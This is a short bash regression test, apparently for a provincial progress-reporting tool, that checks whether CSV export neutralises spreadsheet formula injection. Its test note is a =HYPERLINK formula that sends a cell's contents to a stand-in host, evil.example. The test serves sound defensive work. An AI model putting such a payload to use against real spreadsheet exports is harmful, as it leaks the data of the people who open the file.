#!/bin/bash
# README: CSV output "opens in a spreadsheet". A district's note is text
# from another office, yet 'progress show --format csv' at the province
# writes a note beginning with '=' as it is, so the spreadsheet that opens
# it evaluates it as a formula (=HYPERLINK(...), =WEBSERVICE(...)): the
# CSV-injection case the HTML renderer's escaping guards against for HTML.
# Expected: a cell that starts with = + - @ (or tab/CR) is neutralised
# (for example prefixed with ') in the csv format.
. "$(dirname "$0")/common.sh"
prov; dist d1 binh-giang a
"$P" -C d1 sync >/dev/null 2>&1
"$P" -C d1 progress set p1-t1 2021 --percent 10 --note '=HYPERLINK("http://evil.example/?"&A1,"chi tiết")' >/dev/null || fail set
"$P" -C d1 sync >/dev/null 2>&1; "$P" -C tinh sync >/dev/null 2>&1
out=$("$P" -C tinh progress show --office binh-giang --format csv) || fail "progress show --format csv failed"
echo "$out"
grep -q 'HYPERLINK' <<<"$out" || { echo "the note did not arrive"; exit 2; }
grep -qE '(^|,)"?=HYPERLINK' <<<"$out" && fail "a note from another office is written to CSV as a live spreadsheet formula"
exit 0
